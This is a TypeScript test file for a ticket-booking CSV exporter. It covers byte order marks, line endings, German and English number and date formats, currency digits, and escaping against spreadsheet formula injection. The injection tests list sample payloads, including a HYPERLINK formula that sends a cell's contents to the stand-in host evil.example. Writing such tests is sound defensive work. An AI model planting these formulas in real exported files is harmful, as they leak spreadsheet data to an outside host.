import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import type { Language } from '@boxoffice/contracts/formats';
import type { Row, Sheet } from '../sheet.js';
import { csvOf } from './csv.js';

const sheet = (rows: Row[], currency = 'EUR', language: Language = 'en'): Sheet => ({
  name: 'Bookings',
  currency,
  language,
  columns: [
    { heading: 'Buyer', kind: 'text' },
    { heading: 'Tickets', kind: 'count' },
    { heading: 'Amount', kind: 'amount' },
    { heading: 'Paid at', kind: 'moment' },
  ],
  rows: (async function* () {
    await Promise.resolve();
    for (const row of rows) yield [row];
  })(),
});

async function written(rows: Row[], currency?: string): Promise<string> {
  return text(Readable.from(csvOf(sheet(rows, currency))));
}

const cell = async (name: string): Promise<string> => {
  const [, line = ''] = (await written([[name, null, null, null]])).split(/\r\n(?=")|\r\n$/);
  return line.replace(/,,,$/, '');
};

describe('a CSV file', () => {
  it('begins with a byte order mark and the headings, and ends every line as RFC 4180 says', async () => {
    expect(await written([])).toBe('\uFEFF"Buyer","Tickets","Amount","Paid at"\r\n');
    expect(await written([['Ada', 2, 5_600, '2026-12-01T09:00:00+01:00']])).toBe(
      '\uFEFF"Buyer","Tickets","Amount","Paid at"\r\n"Ada",2,56.00,2026-12-01T09:00:00+01:00\r\n',
    );
  });

  it('is in German as German spreadsheets read it, and cuts no digit of a number off', async () => {
    const columns: Sheet['columns'] = [
      { heading: 'Buchung', kind: 'reference' },
      { heading: 'Käufer', kind: 'text' },
      { heading: 'Betrag', kind: 'amount' },
      { heading: 'Tag', kind: 'day' },
      { heading: 'Bezahlt am', kind: 'moment' },
    ];
    const sold = ['2026-12-01', '2026-12-01T09:00:12+01:00'];
    const row = ['384787953995481088', 'Ada; Grace, „B“', -150_050, ...sold];
    const written = async (language: Language) =>
      text(Readable.from(csvOf({ ...sheet([row], 'EUR', language), columns })));
    expect(await written('de')).toBe(
      '\uFEFF"Buchung";"Käufer";"Betrag";"Tag";"Bezahlt am"\r\n' +
        '"38 4787 9539 9548 1088";"Ada; Grace, „B“";-1500,50;01.12.2026;01.12.2026 09:00:12\r\n',
    );
    expect(await written('en')).toContain(
      '\r\n"38 4787 9539 9548 1088","Ada; Grace, „B“",-1500.50,2026-12-01,2026-12-01T09:00:12+01:00\r\n',
    );
  });

  it('writes amounts with the digits of their currency, and refunds with a minus', async () => {
    const amounts = async (currency: string): Promise<string | undefined> =>
      (await written([[null, null, -150_050, null]], currency)).split('\r\n')[1];
    expect(await amounts('EUR')).toBe(',,-1500.50,');
    expect(await amounts('JPY')).toBe(',,-150050,');
    expect(await amounts('KWD')).toBe(',,-150.050,');
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
    ['+49 40 123', `"'+49 40 123"`],
    ['-2', `"'-2"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['＝1+1', `"'＝1+1"`],
    ['a;=1+1', `"a;=1+1"`],
    ['Smith, "Jo"', `"Smith, ""Jo"""`],
    ['two\nlines', `"two\nlines"`],
    ['Grüße, 東京 🎫', `"Grüße, 東京 🎫"`],
  ])('carries nothing out that somebody is called %j', async (name, expected) => {
    expect(await cell(name)).toBe(expected);
  });
});
